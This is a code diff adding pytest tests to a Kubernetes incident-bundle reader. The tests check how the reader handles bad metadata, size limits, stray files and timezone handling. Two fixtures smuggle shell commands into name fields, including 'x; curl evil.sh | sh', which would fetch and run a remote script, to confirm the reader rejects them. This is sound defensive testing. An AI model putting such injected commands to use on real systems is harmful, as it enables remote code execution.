@@ -133,3 +133,50 @@ def test_a_missing_path_and_a_file_that_is_no_archive_are_errors(tmp_path):
     junk.write_bytes(b"not gzip at all")
     with pytest.raises(InputError, match=r"not a directory or a readable \.tar\.gz bundle"):
         read_bundle(junk)
+
+
+@pytest.mark.parametrize(
+    ("obj", "message"),
+    [
+        ({**POD, "metadata": "x"}, "k8s/cluster.json: a Pod has a 'metadata' that is not an object"),
+        (
+            {**POD, "metadata": {"name": "web-1", "namespace": "d$(id)"}},
+            "k8s/cluster.json: a Pod has an invalid name 'd$(id)'",
+        ),
+        (
+            {**POD, "spec": {"containers": [{"name": "x; curl evil.sh | sh"}]}},
+            "k8s/cluster.json: a Pod has an invalid name 'x; curl evil.sh | sh'",
+        ),
+    ],
+    ids=["metadata-not-an-object", "shell-in-namespace", "shell-in-container-name"],
+)
+def test_objects_with_the_wrong_shape_or_hostile_names_are_refused(tmp_path, obj, message):
+    with pytest.raises(InputError, match=re.escape(message)):
+        read_bundle(write_bundle(tmp_path / "b", [obj]))
+
+
+def test_an_archive_that_unpacks_past_the_bundle_limit_is_refused(tmp_path, monkeypatch):
+    from incident_lib.sources import bundle
+
+    monkeypatch.setattr(bundle, "MAX_BUNDLE_BYTES", 1000)
+    with pytest.raises(InputError, match="unpacks to more than"):
+        read_bundle(_archive_with(tmp_path, tarfile.TarInfo("k8s/pods.json"), b" " * 2000))
+
+
+def test_files_outside_the_bundle_layout_are_not_read(tmp_path):
+    snapshot = read_bundle(_archive_with(tmp_path, tarfile.TarInfo("junk/huge.bin"), b"x" * 5000))
+    assert snapshot.objects == []
+
+
+def test_a_time_without_a_zone_is_utc_whatever_the_machine_says(tmp_path, monkeypatch):
+    import time
+
+    monkeypatch.setenv("TZ", "America/New_York")
+    time.tzset()
+    manifest = {"format": "incident-bundle/v1", "captured_at": "2025-12-17T10:05:00"}
+    try:
+        snapshot = read_bundle(write_bundle(tmp_path / "b", [POD], manifest))
+    finally:
+        monkeypatch.delenv("TZ")
+        time.tzset()
+    assert snapshot.captured_at.isoformat() == "2025-12-17T10:05:00+00:00"
